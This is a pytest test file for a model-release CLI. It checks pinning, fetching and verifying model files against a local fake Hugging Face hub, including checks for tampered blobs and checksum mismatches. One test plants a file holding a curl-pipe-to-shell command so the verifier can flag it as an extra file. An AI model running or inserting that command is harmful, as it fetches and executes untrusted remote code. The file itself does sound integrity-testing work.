"""`release model pin|fetch|verify` through the CLI, against the real huggingface_hub
client talking to a local hub server (tests/fixtures/hub.py)."""

from __future__ import annotations

import hashlib
import json
import os
import sys
from pathlib import Path

import pytest

from tests.fixtures.hub import FakeHub
from tests.fixtures.tools import REPO, free_port, run_cli

sys.path.insert(0, str(REPO / "model" / "examples"))
import generate

REPO_ID = "acme/sentiment"
INCLUDE = ["config.json", "tokenizer.json", "onnx/*.onnx"]


@pytest.fixture(scope="module")
def model_files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    files = generate.generate(tmp_path_factory.mktemp("gen"))
    files["pytorch_model.bin"] = b"\0" * 4096  # present in the repo, not included
    files[".gitattributes"] = b"*.onnx filter=lfs\n"
    return files


def project(
    tmp_path: Path, include: list[str] = INCLUDE, repo: str = REPO_ID, revision: str = "main"
) -> Path:
    tmp_path.mkdir(parents=True, exist_ok=True)
    (tmp_path / "release.toml").write_text(
        f"""
[model]
repo = "{repo}"
revision = "{revision}"
include = {json.dumps(include)}

[image]
base = "oci:base@sha256:{"0" * 64}"

[functions]
analysis = "handlers.analysis.lambda_handler"
"""
    )
    return tmp_path


@pytest.fixture
def env(tmp_path: Path, fake_hub: FakeHub) -> dict[str, str]:
    return {
        "RELEASE_CACHE_DIR": str(tmp_path / "cache"),
        "HF_ENDPOINT": fake_hub.url,
        "HF_HOME": os.environ["HF_HOME"],
        "HF_HUB_DISABLE_XET": "1",
    }


def test_branch_resolves_to_commit_and_lock_is_exact(
    tmp_path: Path, fake_hub: FakeHub, model_files: dict[str, bytes], env: dict[str, str]
) -> None:
    commit = fake_hub.add_repo(REPO_ID, model_files, tag="v1")
    proj = project(tmp_path / "p")
    r = run_cli("model", "pin", "--json", cwd=proj, env=env)
    assert r.code == 0, r.stderr
    lock = json.loads((proj / "model" / "model.lock.json").read_text())
    want_files = [
        {
            "path": p,
            "size": len(model_files[p]),
            "sha256": hashlib.sha256(model_files[p]).hexdigest(),
        }
        for p in ["config.json", "onnx/model.onnx", "tokenizer.json"]
    ]
    root = hashlib.sha256(b"".join(bytes.fromhex(f["sha256"]) for f in want_files)).hexdigest()
    assert lock == {
        "schema": 1,
        "source": "hub",
        "repo": REPO_ID,
        "revision": "main",
        "commit": commit,
        "files": want_files,
        "digest": f"sha256:{root}",
    }
    assert list(lock) == ["schema", "source", "repo", "revision", "commit", "files", "digest"]
    assert json.loads(r.stdout)["lock"] == lock
    # a tag resolves to the same commit
    r2 = run_cli("model", "pin", "--revision", "v1", cwd=proj, env=env)
    assert r2.code == 0, r2.stderr
    assert json.loads((proj / "model" / "model.lock.json").read_text())["commit"] == commit


def test_wrong_lfs_sha256_exits_1_and_writes_no_lock(
    tmp_path: Path, fake_hub: FakeHub, model_files: dict[str, bytes], env: dict[str, str]
) -> None:
    fake_hub.add_repo(REPO_ID, model_files)
    fake_hub.wrong_lfs_sha256.add("onnx/model.onnx")
    proj = project(tmp_path / "p")
    r = run_cli("model", "pin", cwd=proj, env=env)
    assert r.code == 1
    assert (
        "release: error: 1 file(s) of acme/sentiment disagree with the source's metadata; no lock written"
        in r.stderr
    )
    assert "onnx/model.onnx: sha256" in r.stderr and "the hub's LFS metadata says" in r.stderr
    assert not (proj / "model" / "model.lock.json").exists()


def test_wrong_git_blob_sha1_exits_1(
    tmp_path: Path, fake_hub: FakeHub, model_files: dict[str, bytes], env: dict[str, str]
) -> None:
    fake_hub.add_repo(REPO_ID, model_files)
    fake_hub.wrong_blob_sha1.add("config.json")
    proj = project(tmp_path / "p")
    r = run_cli("model", "pin", cwd=proj, env=env)
    assert r.code == 1
    assert "config.json: git blob" in r.stderr
    assert not (proj / "model" / "model.lock.json").exists()


def test_fetch_verifies_and_warm_cache_does_no_network(
    tmp_path: Path, fake_hub: FakeHub, model_files: dict[str, bytes], env: dict[str, str]
) -> None:
    fake_hub.add_repo(REPO_ID, model_files)
    proj = project(tmp_path / "p")
    assert run_cli("model", "pin", cwd=proj, env=env).code == 0
    # cold cache: downloads at the locked commit
    cold_env = {**env, "RELEASE_CACHE_DIR": str(tmp_path / "cache2")}
    dest = tmp_path / "dest"
    r = run_cli("model", "fetch", "--dest", dest, "--json", cwd=proj, env=cold_env)
    assert r.code == 0, r.stderr
    assert json.loads(r.stdout)["downloaded"] == 3
    assert sorted(p.relative_to(dest).as_posix() for p in dest.rglob("*") if p.is_file()) == [
        "config.json",
        "onnx/model.onnx",
        "tokenizer.json",
    ]
    assert (dest / "onnx/model.onnx").read_bytes() == model_files["onnx/model.onnx"]
    # warm cache: not a single request reaches the hub
    fake_hub.requests.clear()
    r = run_cli("model", "fetch", "--dest", tmp_path / "dest2", "--json", cwd=proj, env=cold_env)
    assert r.code == 0, r.stderr
    assert json.loads(r.stdout) | {"dest": ""} == json.loads(r.stdout) | {
        "dest": "",
        "cached": 3,
        "downloaded": 0,
    }
    assert fake_hub.requests == []
    # --offline with a cold cache never touches the network
    r = run_cli(
        "model",
        "fetch",
        "--offline",
        "--dest",
        tmp_path / "dest3",
        cwd=proj,
        env={**env, "RELEASE_CACHE_DIR": str(tmp_path / "cache3")},
    )
    assert r.code == 3
    assert (
        "release: error: 3 locked file(s) are not cached and --offline forbids the network; DEST untouched"
        in r.stderr
    )
    assert fake_hub.requests == []
    assert not (tmp_path / "dest3").exists()


def test_tampered_cache_file_fails_and_dest_untouched(
    tmp_path: Path, fake_hub: FakeHub, model_files: dict[str, bytes], env: dict[str, str]
) -> None:
    fake_hub.add_repo(REPO_ID, model_files)
    proj = project(tmp_path / "p")
    assert run_cli("model", "pin", cwd=proj, env=env).code == 0
    dest = tmp_path / "dest"
    assert run_cli("model", "fetch", "--dest", dest, cwd=proj, env=env).code == 0
    before = {p: p.read_bytes() for p in dest.rglob("*") if p.is_file()}
    sha = hashlib.sha256(model_files["onnx/model.onnx"]).hexdigest()
    blob = tmp_path / "cache" / "blobs" / "sha256" / sha
    os.chmod(blob, 0o644)
    blob.write_bytes(b"poisoned weights" + model_files["onnx/model.onnx"][16:])
    r = run_cli("model", "fetch", "--dest", dest, cwd=proj, env=env)
    assert r.code == 1
    assert f"release: error: 1 file(s) failed verification; {dest} untouched" in r.stderr
    assert "onnx/model.onnx: cached blob is corrupt" in r.stderr
    assert {p: p.read_bytes() for p in dest.rglob("*") if p.is_file()} == before
    assert not any("poisoned" in p.name for p in tmp_path.rglob("*"))
    assert not blob.exists()  # quarantined, so the next fetch downloads good bytes again
    r = run_cli("model", "fetch", "--dest", dest, cwd=proj, env=env)
    assert r.code == 0, r.stderr


def test_hub_serving_other_bytes_is_refused(
    tmp_path: Path, fake_hub: FakeHub, model_files: dict[str, bytes], env: dict[str, str]
) -> None:
    fake_hub.add_repo(REPO_ID, model_files)
    proj = project(tmp_path / "p")
    assert run_cli("model", "pin", cwd=proj, env=env).code == 0
    fake_hub.tamper["tokenizer.json"] = model_files["tokenizer.json"].replace(b"[UNK]", b"[UNX]")
    dest = tmp_path / "dest"
    r = run_cli(
        "model",
        "fetch",
        "--dest",
        dest,
        cwd=proj,
        env={**env, "RELEASE_CACHE_DIR": str(tmp_path / "c2")},
    )
    assert r.code == 1
    assert "tokenizer.json: the source served sha256" in r.stderr
    assert not dest.exists()


def test_verify_reports_missing_changed_and_extra(
    tmp_path: Path, fake_hub: FakeHub, model_files: dict[str, bytes], env: dict[str, str]
) -> None:
    fake_hub.add_repo(REPO_ID, model_files)
    proj = project(tmp_path / "p")
    assert run_cli("model", "pin", cwd=proj, env=env).code == 0
    dest = tmp_path / "dest"
    assert run_cli("model", "fetch", "--dest", dest, cwd=proj, env=env).code == 0
    assert run_cli("model", "verify", dest, cwd=proj).code == 0
    (dest / "config.json").unlink()
    data = bytearray((dest / "onnx/model.onnx").read_bytes())
    data[100] ^= 1  # same size, one bit
    (dest / "onnx/model.onnx").write_bytes(bytes(data))
    (dest / "onnx" / "evil.py").write_text("import os; os.system('curl x | sh')\n")
    r = run_cli("model", "verify", dest, cwd=proj)
    assert r.code == 1
    lines = r.stderr.splitlines()
    assert lines[0] == f"release: error: {dest} does not match model.lock.json: 3 problem(s)"
    assert lines[1] == "  missing: config.json"
    assert lines[2].startswith("  changed: onnx/model.onnx (sha256 ")
    assert lines[3] == "  extra: onnx/evil.py"
    j = run_cli("model", "verify", dest, "--json", cwd=proj)
    assert j.code == 1
    doc = json.loads(j.stdout)
    assert (
        doc["ok"] is False
        and doc["missing"] == ["config.json"]
        and doc["extra"] == ["onnx/evil.py"]
    )


def test_hub_down_exits_3(tmp_path: Path, env: dict[str, str]) -> None:
    proj = project(tmp_path / "p")
    down = {**env, "HF_ENDPOINT": f"http://127.0.0.1:{free_port()}"}
    r = run_cli("model", "pin", cwd=proj, env=down)
    assert r.code == 3, r.stderr
    assert r.stderr.startswith("release: error: hub: resolving 'main' failed:")
    assert len(r.stderr.strip().splitlines()) == 1


def test_unknown_repo_and_revision_exit_2(
    tmp_path: Path, fake_hub: FakeHub, model_files: dict[str, bytes], env: dict[str, str]
) -> None:
    fake_hub.add_repo(REPO_ID, model_files)
    r = run_cli("model", "pin", cwd=project(tmp_path / "a", repo="acme/nope"), env=env)
    assert r.code == 2
    assert (
        r.stderr.strip()
        == "release: error: hub: repository acme/nope not found (or HF_TOKEN lacks access)"
    )
    r = run_cli("model", "pin", cwd=project(tmp_path / "b", revision="v9"), env=env)
    assert r.code == 2
    assert (
        r.stderr.strip()
        == "release: error: hub: revision not found in acme/sentiment: resolving 'v9'"
    )


def test_include_matching_nothing_exits_2(
    tmp_path: Path, fake_hub: FakeHub, model_files: dict[str, bytes], env: dict[str, str]
) -> None:
    fake_hub.add_repo(REPO_ID, model_files)
    r = run_cli("model", "pin", cwd=project(tmp_path / "a", include=["*.safetensors"]), env=env)
    assert r.code == 2
    assert (
        "release: error: [model].include ['*.safetensors'] matches no file of acme/sentiment@main"
        in r.stderr
    )
